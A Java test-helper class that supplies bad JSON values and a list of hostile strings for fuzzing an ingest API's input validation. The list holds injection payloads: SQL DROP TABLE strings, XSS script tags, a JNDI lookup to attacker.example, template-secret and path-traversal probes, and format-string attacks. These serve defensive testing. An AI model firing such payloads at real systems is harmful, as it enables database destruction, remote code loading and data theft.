package dev.dkssweep.sweep.document;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.util.List;
import java.util.function.Supplier;

/**
 * What the bad-input generators put where a valid value was (exported with the test jar: the sweep
 * documents' generator and the ingest API's use the same).
 */
public final class BadValues {

  private BadValues() {}

  private static final JsonNodeFactory F = JsonNodeFactory.instance;

  /** Values of every JSON kind, and edge cases of each: a field's own kind among them. */
  public static final List<Supplier<JsonNode>> OF_EVERY_KIND =
      List.of(
          () -> F.textNode("x"),
          () -> F.numberNode(3.5),
          () -> F.numberNode(-1),
          () -> F.booleanNode(true),
          () -> F.arrayNode().add(1),
          () -> F.objectNode().put("a", 1),
          () -> F.textNode(""),
          () -> F.numberNode(new java.math.BigInteger("99999999999999999999999")),
          () -> F.numberNode(0),
          () -> F.textNode("NaN"));

  /** Strings an attacker or an accident sends: to be refused, or stored and shown verbatim. */
  public static final List<String> HOSTILE_STRINGS =
      List.of(
          "'; DROP TABLE sweeps; --",
          "'; DROP TABLE metric_points; --",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "${jndi:ldap://attacker.example/a}",
          "{{ .Values.secret }}",
          "../../../../etc/passwd",
          "\u202eevil\u202c",
          "tab\tand\nnewline",
          "bell\u0007",
          "nul\u0000byte",
          "emoji \uD83D\uDE80",
          "zero\u200bwidth",
          "x".repeat(129),
          "x".repeat(100_000),
          "%s%s%s%n",
          "%00%2e%2e",
          "\\u0000",
          "é".repeat(64));

  /** The kind of a JSON value, as the generators compare them. */
  public static String kind(JsonNode n) {
    return n.isNumber()
        ? "number"
        : n.isTextual() ? "text" : n.isBoolean() ? "boolean" : "container";
  }
}
